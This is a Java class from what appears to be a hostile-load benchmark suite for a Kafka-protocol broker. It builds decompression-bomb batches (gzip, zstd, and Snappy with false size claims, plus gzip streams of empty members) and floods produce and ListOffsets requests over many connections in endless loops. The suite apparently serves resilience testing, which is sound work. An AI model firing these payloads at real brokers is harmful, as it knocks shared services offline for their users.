package io.aeon.benchmarks.hostile;

import io.aeon.benchmarks.broker.BrokerProcess;
import io.aeon.benchmarks.broker.Produce;
import io.aeon.benchmarks.broker.Wire;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.nio.ByteBuffer;
import java.util.List;
import java.util.zip.CRC32C;
import java.util.zip.GZIPOutputStream;
import org.apache.kafka.common.TopicPartition;
import org.apache.kafka.common.compress.Compression;
import org.apache.kafka.common.message.ListOffsetsRequestData.ListOffsetsPartition;
import org.apache.kafka.common.message.ListOffsetsRequestData.ListOffsetsTopic;
import org.apache.kafka.common.protocol.ApiKeys;
import org.apache.kafka.common.record.internal.CompressionType;
import org.apache.kafka.common.record.internal.MemoryRecords;
import org.apache.kafka.common.requests.ListOffsetsRequest;
import org.apache.kafka.common.requests.RequestHeader;
import org.apache.kafka.common.utils.internals.ByteBufferOutputStream;
import org.apache.kafka.common.utils.internals.ByteUtils;

/** Small batches that decompress to very many bytes, or that claim to. */
final class Bombs {
    private static final TopicPartition ATTACKED = new TopicPartition(Target.TOPIC, 0);
    private static final short LEADER = 1;
    private static final int MIB = 1 << 20;
    private static final byte[] ZEROS = new byte[1 << 16];
    private static final int MOST_START = 64;
    private static final int HEADER = 61;
    private static final int CONNECTIONS = 4;
    private static final int PIPELINED = 40;
    private static final int ASKING = 20;
    private static final int LARGE_CLAIM = 62_000_000;
    private static final int ALMOST_ONE_MB = 1_000_000;
    private static final int ROLL_MILLIS = 1200;
    private static final short LIST_OFFSETS_VERSION = 7;

    private Bombs() {}

    /** 4 connections send one gzip record of 250 MiB, and then 4 records of 100 MiB with zstd. */
    static void uncompressed(Target target) throws Exception {
        ByteBuffer gzip = frame(batch(CompressionType.GZIP, 1, 250 * MIB));
        ByteBuffer zstd = frame(batch(CompressionType.ZSTD, 1, 100 * MIB));
        target.together(CONNECTIONS, number -> {
            while (true) {
                send(target, gzip, 1);
                send(target, zstd, CONNECTIONS);
            }
        });
    }

    /** 3 connections each have 40 batches under way, of 7 KB for 200 MiB. */
    static void recompressed(Target target) throws Exception {
        ByteBuffer zstd = frame(batch(CompressionType.ZSTD, 1, 200 * MIB));
        target.together(CONNECTIONS - 1, number -> {
            while (true) {
                send(target, zstd, PIPELINED);
            }
        });
    }

    /** Batches of 7 KB for 240 MiB with the same key, in segments that are full at once. */
    static void compacted(Target target) throws Exception {
        ByteBuffer zstd = frame(batch(CompressionType.ZSTD, 1, 240 * MIB));
        while (true) {
            send(target, zstd, 2);
            BrokerProcess.pause(ROLL_MILLIS);
        }
    }

    /** 20 connections ask for the offset of a time that only a batch of 200 MiB can tell. */
    static void byTime(Target target) throws Exception {
        ByteBuffer batch = batch(CompressionType.ZSTD, 2, 100 * MIB);
        send(target, frame(batch), 1);
        long last = batch.getLong(35);
        target.together(ASKING, number -> {
            try (Wire wire = target.connect()) {
                while (true) {
                    wire.send(listOffsets(last));
                    wire.reply();
                }
            }
        });
    }

    /** A gzip stream of 50,000 empty members. */
    static void gzipMembers(Target target) throws Exception {
        ByteArrayOutputStream one = new ByteArrayOutputStream();
        new GZIPOutputStream(one).close();
        ByteArrayOutputStream all = new ByteArrayOutputStream();
        while (all.size() < ALMOST_ONE_MB) {
            all.write(one.toByteArray());
        }
        ByteBuffer frame = frame(claimed(CompressionType.GZIP, all.toByteArray()));
        target.together(CONNECTIONS, number -> {
            while (true) {
                send(target, frame, 1);
            }
        });
    }

    /** Snappy chunks of 1 MB that claim 62 MB after decompression. */
    static void snappyClaims(Target target) throws Exception {
        ByteBuffer chunk = ByteBuffer.allocate(ALMOST_ONE_MB);
        ByteUtils.writeUnsignedVarint(LARGE_CLAIM, chunk);
        ByteBuffer frame = frame(claimed(CompressionType.SNAPPY, chunk.array()));
        target.together(CONNECTIONS * CONNECTIONS, number -> {
            while (true) {
                send(target, frame, 1);
            }
        });
    }

    private static void send(Target target, ByteBuffer frame, int times) throws IOException {
        try (Wire wire = target.connect()) {
            for (int i = 0; i < times; i++) {
                wire.send(frame);
            }
            for (int i = 0; i < times; i++) {
                wire.reply();
            }
        }
    }

    private static ByteBuffer frame(ByteBuffer batch) {
        return Produce.frame(ATTACKED, MemoryRecords.readableRecords(batch), LEADER);
    }

    private static ByteBuffer listOffsets(long timestamp) {
        ListOffsetsTopic topic = new ListOffsetsTopic().setName(Target.TOPIC);
        topic.partitions().add(new ListOffsetsPartition().setPartitionIndex(0).setTimestamp(timestamp));
        return Wire.frame(
                ListOffsetsRequest.Builder.forReplica(LIST_OFFSETS_VERSION, -1)
                        .setTargetTimes(List.of(topic))
                        .build(LIST_OFFSETS_VERSION),
                new RequestHeader(ApiKeys.LIST_OFFSETS, LIST_OFFSETS_VERSION, "hostile", 1));
    }

    /** A valid batch whose records have values of zeros; it is made in little memory. */
    private static ByteBuffer batch(CompressionType codec, int records, int valueBytes) throws IOException {
        ByteBufferOutputStream out = new ByteBufferOutputStream(1 << 16);
        out.position(HEADER);
        try (OutputStream compressed = Compression.of(codec).build().wrapForOutput(out, (byte) 2)) {
            for (int i = 0; i < records; i++) {
                write(i, valueBytes, compressed);
            }
        }
        return withHeader(out.buffer().flip(), codec, records);
    }

    private static void write(int index, int valueBytes, OutputStream target) throws IOException {
        ByteBuffer start = ByteBuffer.allocate(MOST_START).put((byte) 0);
        ByteUtils.writeVarlong(index, start);
        ByteUtils.writeVarint(index, start);
        ByteUtils.writeVarint(1, start);
        start.put((byte) 'k');
        ByteUtils.writeVarint(valueBytes, start);
        ByteBuffer length = ByteBuffer.allocate(MOST_START);
        ByteUtils.writeVarint(start.position() + valueBytes + 1, length);
        target.write(length.array(), 0, length.position());
        target.write(start.array(), 0, start.position());
        for (int left = valueBytes; left > 0; left -= ZEROS.length) {
            target.write(ZEROS, 0, Math.min(left, ZEROS.length));
        }
        target.write(0);
    }

    /** A batch that claims to hold one record. */
    private static ByteBuffer claimed(CompressionType codec, byte[] compressed) {
        return withHeader(ByteBuffer.allocate(HEADER + compressed.length).put(HEADER, compressed), codec, 1);
    }

    private static ByteBuffer withHeader(ByteBuffer batch, CompressionType codec, int records) {
        long now = System.currentTimeMillis();
        batch.putLong(0, 0).putInt(8, batch.limit() - 12).putInt(12, -1).put(16, (byte) 2);
        batch.putShort(21, codec.id).putInt(23, records - 1);
        batch.putLong(27, now).putLong(35, now + records - 1);
        batch.putLong(43, -1).putShort(51, (short) -1).putInt(53, -1).putInt(57, records);
        CRC32C crc = new CRC32C();
        crc.update(batch.duplicate().position(21));
        return batch.putInt(17, (int) crc.getValue());
    }
}
